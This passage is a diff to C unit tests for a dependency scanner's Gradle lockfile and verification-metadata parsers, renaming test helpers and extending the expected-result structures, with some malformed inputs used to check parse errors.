 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/buildscript-gradle.lockfile", w, N(w));
+	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/buildscript-gradle.lockfile", w, N(w));
 }
 
 static void test_gradle_legacy_lockfiles(void **state)
 {
-	static const want test_w[] = {
-		{ "junit:junit", "4.13.2", DEV, 4, NULL },
-		{ "org.hamcrest:hamcrest-core", "1.3", DEV, 5, NULL },
+	static const sca_want test_w[] = {
+		{ "junit:junit", "4.13.2", DEV, 4, NULL, NULL },
+		{ "org.hamcrest:hamcrest-core", "1.3", DEV, 5, NULL, NULL },
 	};
-	static const want rt_w[] = {
-		{ "org.apache.commons:commons-text", "1.10.0", 0, 4, NULL },
-		{ "org.apache.commons:commons-lang3", "3.12.0", 0, 5, NULL },
+	static const sca_want rt_w[] = {
+		{ "org.apache.commons:commons-text", "1.10.0", 0, 4, NULL, NULL },
+		{ "org.apache.commons:commons-lang3", "3.12.0", 0, 5, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_gradle_lock, "gradle",
+	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle",
 	               "app/gradle/dependency-locks/testRuntimeClasspath.lockfile", test_w, N(test_w));
-	expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle/dependency-locks/runtimeClasspath.lockfile",
+	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "app/gradle/dependency-locks/runtimeClasspath.lockfile",
 	               rt_w, N(rt_w));
 }
 
 static void test_gradle_lockfile_crlf_and_errors(void **state)
 {
-	static const want w[] = {
-		{ "io.micronaut:micronaut-core", "4.2.0", 0, 4, NULL },
+	static const sca_want w[] = {
+		{ "io.micronaut:micronaut-core", "4.2.0", 0, 4, NULL, NULL },
 	};
 
-	static const want odd[] = {
-		{ "a:latest", "1", 0, 1, NULL },
-		{ "a:fixtures", "2", DEV, 2, NULL },
-		{ "a:mixed", "3", 0, 3, NULL },
-		{ "a:none", "4", 0, 4, NULL },
+	static const sca_want odd[] = {
+		{ "a:latest", "1", 0, 1, NULL, NULL },
+		{ "a:fixtures", "2", DEV, 2, NULL, NULL },
+		{ "a:mixed", "3", 0, 3, NULL, NULL },
+		{ "a:none", "4", 0, 4, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_gradle_lock, "gradle", "crlf-gradle.lockfile", w, N(w));
-	expect_text(scan_sca__extract_gradle_lock, "gradle.lockfile",
+	sca_expect_fixture(scan_sca__extract_gradle_lock, "gradle", "crlf-gradle.lockfile", w, N(w));
+	sca_expect_text(scan_sca__extract_gradle_lock, "gradle.lockfile",
 	            "a:latest:1=latestClasspath\n"
 	            "a:fixtures:2=testFixturesRuntimeClasspath, functionalTestRuntimeClasspath\n"
 	            "a:mixed:3=testRuntimeClasspath,runtimeClasspath\n"
 	            "a:none:4=\n",
 	            odd, N(odd));
-	expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("# c\ng:a=compileClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("# c\ng:a=compileClasspath\n"), SCAN_EPARSE,
 	             "gradle.lockfile:2: expected group:artifact:version=configurations");
-	expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:1:x=runtimeClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:1:x=runtimeClasspath\n"), SCAN_EPARSE,
 	             ":1: expected");
-	expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g::1=runtimeClasspath\n"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g::1=runtimeClasspath\n"), SCAN_EPARSE,
 	             NULL);
-	expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:\x01=x\n"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_gradle_lock, "gradle.lockfile", S("g:a:\x01=x\n"), SCAN_EPARSE,
 	             "invalid version");
 }
 
@@ -638,20 +473,20 @@ static void test_gradle_lockfile_crlf_and_errors(void **state)
 
 static void test_gradle_verification(void **state)
 {
-	static const want w[] = {
-		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 12, NULL },
-		{ "com.google.guava:guava", "32.1.3-jre", 0, 20, NULL },
-		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.9.20", 0, 28, NULL },
-		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.8.21", 0, 33, NULL },
+	static const sca_want w[] = {
+		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 12, NULL, NULL },
+		{ "com.google.guava:guava", "32.1.3-jre", 0, 20, NULL, NULL },
+		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.9.20", 0, 28, NULL, NULL },
+		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.8.21", 0, 33, NULL, NULL },
 	};
 
 	(void)state;
-	expect_fixture(scan_sca__extract_gradle_verification, "gradle", "gradle/verification-metadata.xml", w, N(w));
-	expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml",
+	sca_expect_fixture(scan_sca__extract_gradle_verification, "gradle", "gradle/verification-metadata.xml", w, N(w));
+	sca_expect_error(scan_sca__extract_gradle_verification, "gradle/verification-metadata.xml",
 	             S("<verification-metadata><components>\n<component group=\"g\" name=\"n\"/>"
 	               "</components></verification-metadata>"),
 	             SCAN_EPARSE, ":2: <component> needs group, name and version");
-	expect_error(scan_sca__extract_gradle_verification, "v.xml", S("<project/>"), SCAN_EPARSE,
+	sca_expect_error(scan_sca__extract_gradle_verification, "v.xml", S("<project/>"), SCAN_EPARSE,
 	             "not <verification-metadata>");
 }
 
